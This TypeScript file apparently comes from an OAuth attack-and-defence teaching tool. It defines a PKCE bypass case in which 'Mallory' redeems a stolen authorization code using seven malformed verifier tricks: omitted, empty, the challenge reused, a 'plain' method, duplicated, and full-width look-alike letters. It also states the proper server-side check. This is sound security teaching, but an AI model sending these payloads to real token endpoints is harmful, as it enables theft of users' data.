import type { HttpRequest } from '@/lib/oauth/http'
import type { Attack, AttackCase, Variant } from './attack'
import { editorCodeOnItsWay } from './connected'
import { malloryRedeems } from './parts'
import { postForm } from './requests'
import { readsPhotos } from './stolen-token'
import type { AttackTools } from './tools'

/** What Mallory sends in the place of the verifier. */
type Trick = (challenge: string) => readonly (readonly [name: string, value: string])[]

const TRICKS: readonly [id: string, title: string, caption: string, trick: Trick][] = [
  [
    'without-verifier',
    'No verifier',
    'Mallory leaves the code_verifier out, and hopes that it is only checked when it is there.',
    () => [],
  ],
  [
    'empty-verifier',
    'An empty verifier',
    'Mallory sends an empty code_verifier, and hopes that nobody compares nothing.',
    () => [['code_verifier', '']],
  ],
  [
    'challenge-as-verifier',
    'The challenge as verifier',
    'Mallory has seen the request, and sends its challenge back as the verifier.',
    (challenge) => [['code_verifier', challenge]],
  ],
  [
    'method-at-token-endpoint',
    'Another method at the end',
    'Mallory sends the challenge as verifier and says code_challenge_method=plain, now, where nobody should listen to it.',
    (challenge) => [
      ['code_verifier', challenge],
      ['code_challenge_method', 'plain'],
    ],
  ],
  [
    'one-character',
    'A verifier of one character',
    'Mallory sends a verifier of a single character, and hopes for a careless comparison.',
    () => [['code_verifier', 'a']],
  ],
  [
    'two-verifiers',
    'Two verifiers',
    'Mallory sends code_verifier twice, and hopes that one is checked for being there and the other for its value.',
    (challenge) => [
      ['code_verifier', challenge],
      ['code_verifier', challenge.toUpperCase()],
    ],
  ],
  [
    'full-width-letters',
    'Letters that look alike',
    'Mallory writes the challenge in full-width letters, which some programs turn into plain ones.',
    (challenge) => [['code_verifier', challenge.replace(/[A-Za-z]/g, fullWidth)]],
  ],
]

function fullWidth(letter: string): string {
  return String.fromCodePoint((letter.codePointAt(0) ?? 0) + 0xfee0)
}

async function redeem(
  { leak, need, origins, client }: AttackTools,
  clientId: string,
  trick: Trick,
): Promise<HttpRequest> {
  const [asked = ''] = (await leak('request-observed')).slice(-1)
  await leak('response-observed')
  const code = need('authorization_code', 'No code was on its way that could be read.', 'leak')
  const challenge = URL.canParse(asked) ? (new URL(asked).searchParams.get('code_challenge') ?? '') : ''
  const { client_id, redirect_uri } = client(clientId)
  const usual = { grant_type: 'authorization_code', code, redirect_uri, client_id }
  return postForm(`${origins.issuer}/token`, [...Object.entries(usual), ...trick(challenge)])
}

function against(clientId: string): Variant {
  const [first, ...others] = TRICKS.map(
    ([id, title, caption, trick]): AttackCase => ({
      id,
      title,
      script: [
        ...editorCodeOnItsWay,
        malloryRedeems({ title: 'Mallory redeems without the verifier', caption }, (tools) =>
          redeem(tools, clientId, trick),
        ),
        readsPhotos('answer'),
      ],
    }),
  )
  if (!first) throw new Error('There is no trick.')
  return { policy: { usePkce: true }, cases: [first, ...others] }
}

/** RFC 7636, sections 4.6 and 7. */
export const pkceBypass: Attack = {
  id: 'A-14',
  slug: 'pkce-bypass',
  tier: 1,
  title: 'A code is redeemed without its verifier',
  summary: 'Mallory has read a code and tries everything that a careless server might take for the verifier.',
  attacker: 'Somebody who sees authorization requests and responses on their way.',
  defence: 'The server hashes what it is sent and compares it with the challenge it remembers; nothing else will do.',
  cites: ['rfc7636-4.6', 'rfc7636-7.2'],
  oracle: 'reads-data',
  switches: { pkce: 'off', clientAuthenticationRequired: false },
  needs: ['code-through-browser', 'user-data-read'],
  on: { 'authorization-code': against('photo-editor'), 'authorization-code-browser': against('photo-gallery') },
}
